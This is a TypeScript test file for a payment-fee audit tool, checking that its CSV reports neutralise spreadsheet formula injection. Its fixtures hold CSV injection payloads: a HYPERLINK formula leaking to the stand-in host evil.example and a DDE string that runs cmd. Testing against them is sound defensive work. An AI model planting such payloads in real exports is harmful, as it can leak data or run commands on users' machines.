import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FINDING_COLUMNS, neutraliseCell } from '../../src/reports/csv.js';
import { CONFIG, HEADER, csvCells, row, runCli, tempDir } from './_run.js';

/**
 * CSV injection (DESIGN.md section 10): a cell that starts with =, +, -, @, TAB or CR is a formula
 * to Excel and LibreOffice. A merchant file edited by hand carries such cells (a merchant name
 * `=HYPERLINK(…)`, a terminal id `+1+1`, a reference `@SUM(…)`); findings.csv and rejects.csv are
 * read back cell by cell as a spreadsheet would, and no cell may start a formula, while amounts
 * stay plain numbers.
 */

const DANGEROUS = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

let dir: string;
let cleanup: () => Promise<void>;
let out: string;

beforeAll(async () => {
  ({ dir, cleanup } = await tempDir('csv'));
  await writeFile(path.join(dir, 'contracts.yaml'), CONFIG);
  const file = path.join(dir, 'edited.csv');
  await writeFile(
    file,
    [
      HEADER,
      // Rejected (bad amount): rejects.csv's raw cell starts with the merchant name.
      row({ ref: 'R1', name: HYPERLINK, amount: '1O0.00' }),
      // Fee overcharges (credit 0.60% contracted): findings with a hostile terminal id and reference.
      row({ ref: 'R2', kind: '贷记卡', fee: '0.90', net: '99.10', time: '2026-11-20 11:11:12' }).replace(',10078087,', ',+1+1,'),
      row({ ref: DDE, kind: '贷记卡', fee: '1.80', net: '198.20', amount: '200.00', time: '2026-11-20 12:11:12' }),
      // Rejected (bad time): the raw cell starts with -, the reason quotes the time.
      row({ ref: 'R4', name: '-2+3', time: '=1+1' }),
    ].join('\r\n'),
  );
  out = path.join(dir, 'out');
  const { code } = await runCli('audit', '--config', path.join(dir, 'contracts.yaml'), '--out', out, '--as-of', '2026-11-30', file);
  expect(code).toBe(0);
});
afterAll(async () => cleanup());

const readCsv = async (name: string) => csvCells((await readFile(path.join(out, name), 'utf8')).replace(/^\uFEFF/, ''));

describe('neutraliseCell', () => {
  it.each([
    ['=HYPERLINK("x")', `'=HYPERLINK("x")`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['-2.39', '-2.39'],
    ['1234.50', '1234.50'],
    ['-0', '-0'],
    ['-1e5', "'-1e5"],
    ['上海味道', '上海味道'],
    ['', ''],
  ])('%j → %j', (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  });
});

describe('findings.csv and rejects.csv, read back as a spreadsheet would', () => {
  it('rejects.csv: the merchant name =HYPERLINK(…) and the -2+3 row are text, and still complete', async () => {
    const rows = await readCsv('rejects.csv');
    expect(rows[0]).toEqual(['file', 'line', 'reason', 'raw']);
    const raws = rows.slice(1).map((r) => r[3]);
    expect(raws).toEqual([`'${row({ ref: 'R1', name: HYPERLINK, amount: '1O0.00' })}`, `'${row({ ref: 'R4', name: '-2+3', time: '=1+1' })}`]);
    expect(rows.slice(1).map((r) => r[2])).toEqual(['amount: expected a decimal, got "1O0.00"', 'txnTime: expected a date-time, got "=1+1"']);
    for (const cell of rows.flat()) expect(cell).not.toMatch(DANGEROUS);
  });

  it('findings.csv: the terminal id +1+1 and the reference @SUM(…) are text; amounts are plain numbers', async () => {
    const rows = await readCsv('findings.csv');
    expect(rows[0]).toEqual([...FINDING_COLUMNS]);
    const col = (name: (typeof FINDING_COLUMNS)[number]) => FINDING_COLUMNS.indexOf(name);
    const overcharges = rows.filter((r) => r[col('rule')] === 'fee-overcharge');
    expect(overcharges.map((r) => [r[col('terminalId')], r[col('reference')]])).toEqual([
      ["'+1+1", 'R2'],
      ['10078087', `'${DDE}`],
    ]);
    expect(overcharges.map((r) => [r[col('amount')], r[col('expected')], r[col('actual')], r[col('difference')]])).toEqual([
      ['100.00', '0.60', '0.90', '0.30'],
      ['200.00', '1.20', '1.80', '0.60'],
    ]);
    for (const r of rows.slice(1)) {
      for (const c of ['amount', 'expected', 'actual', 'difference'] as const) expect(r[col(c)]).toMatch(/^(-?\d+\.\d{2})?$/);
    }
    for (const cell of rows.flat()) expect(cell).not.toMatch(DANGEROUS);
  });
});
